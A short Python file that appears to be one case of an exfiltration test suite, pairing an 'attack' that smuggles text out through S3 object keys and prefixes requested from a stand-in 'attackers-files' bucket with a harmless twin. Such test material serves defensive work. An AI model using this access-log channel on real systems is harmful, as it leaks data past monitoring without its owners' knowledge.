"""A09: ask somebody else's bucket for something; its owner reads what was asked for in his access log.

Why unlabelled: the perimeter refuses whatever is asked for. That it is refused there would not help, so it
must not be sent.
"""


def attack(hands):
    asks(hands, "attackers-files", hands.plain())


def twin(hands):
    asks(hands, "kept-files", hands.plain())


def asks(hands, bucket, text):
    hands.call("s3", "GetObject", Bucket=bucket, Key=f"{text}/nothing")
    hands.call("s3", "HeadObject", Bucket=bucket, Key=f"{text}/nothing")
    hands.call("s3", "ListObjectsV2", Bucket=bucket, Prefix=text)
